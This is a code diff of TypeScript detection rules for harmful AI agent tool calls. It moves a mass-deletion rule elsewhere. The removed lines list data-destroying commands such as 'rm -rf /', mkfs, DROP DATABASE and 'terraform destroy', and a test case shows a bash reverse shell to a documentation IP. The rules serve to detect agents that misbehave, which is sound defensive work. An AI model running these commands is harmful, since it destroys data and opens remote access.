@@ -1,14 +1,10 @@
 import type { Condition, Rule } from "../../rule.ts";
 import { mcpCall } from "../examples/vendors.ts";
 import { plainRule } from "../plain-rule.ts";
+import { AGENTS_DESTRUCTION } from "./destruction.ts";
 import { GRAVE_CALLS, inArguments, run, shell, TOOL_CALLS } from "./tool-arguments.ts";
 
 const query = (sql: string) => mcpCall("tools/call", { name: "query", arguments: { sql } });
-
-/** The same, as people and models write it. */
-const REMOVALS = ["rm -rf", "rm -fr", "rm -r -f", "rm -f -r"];
-/** The machine, and all of a person's files. */
-const ALL_OF = ["", "~", "$HOME"];
 
 /** Instructions to a model in a place where a person would read what a tool does. */
 const ORDERS = [
@@ -38,6 +34,7 @@ const INSTALLED: Condition = {
 
 /** AI agents: what their tools do to the machine and to the data, and what tools do to agents. */
 export const AGENTS_HARM: readonly Rule[] = [
+  ...AGENTS_DESTRUCTION,
   plainRule({
     ...TOOL_CALLS,
     id: "agent-code-fetched-and-run",
@@ -120,54 +117,6 @@ export const AGENTS_HARM: readonly Rule[] = [
     ],
     fires: ["a reverse shell", shell("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")],
     quiet: ["a shell of its own", shell("bash -c 'npm test'")],
-  }),
-  plainRule({
-    ...TOOL_CALLS,
-    id: "agent-everything-deleted",
-    title: "{identity_name} had a tool delete all of a machine, a database or an environment ({beside.call})",
-    when: {
-      any: [
-        run(
-          [
-            ...["--no-preserve-root", "mkfs.", "of=/dev/sd", "of=/dev/nvme"],
-            ...ALL_OF.flatMap((place) => REMOVALS.map((removal) => `${removal} ${place}/*`)),
-            ...["drop database", "drop schema", "drop table", "truncate table", "dropDatabase(", "flushall"],
-            ...["terraform destroy", "kubectl delete namespace", "kubectl delete ns ", "aws s3 rb ", "vssadmin delete"],
-            ...[
-              "pulumi destroy",
-              "railway volume delete",
-              "railway delete",
-              "apps:destroy",
-              "fly apps destroy",
-              "flyctl destroy",
-            ],
-            ...["supabase projects delete", "gh repo delete", "gcloud projects delete", "gcloud sql instances delete"],
-            ...["az group delete", "rds delete-db-", "dynamodb delete-table", "rails db:drop", "rake db:drop"],
-          ],
-          [
-            ...["/", "~", "~/", "$HOME", "$HOME/"].flatMap((place) =>
-              REMOVALS.flatMap((removal) => ["", '"*', " *", ";*"].map((end) => `*${removal} ${place}${end}`)),
-            ),
-            "*aws s3 rm *--recursive*",
-            "*delete from * where 1=1*",
-          ],
-        ),
-        {
-          all: [
-            { any: ["sql", "query", "database"].map((contains) => ({ field: "action", contains })) },
-            inArguments([], ["*delete from *"]),
-            { not: inArguments([" where "]) },
-          ],
-        },
-      ],
-    },
-    severity: "medium",
-    attempted: "low",
-    failed: "low",
-    attack: { tactic: "Impact", technique: "T1485" },
-    expected: "an agent deletes what it made",
-    fires: ["a table", query("DROP TABLE users")],
-    quiet: ["what it built", shell("rm -rf ./dist && npm run build")],
   }),
   plainRule({
     ...TOOL_CALLS,
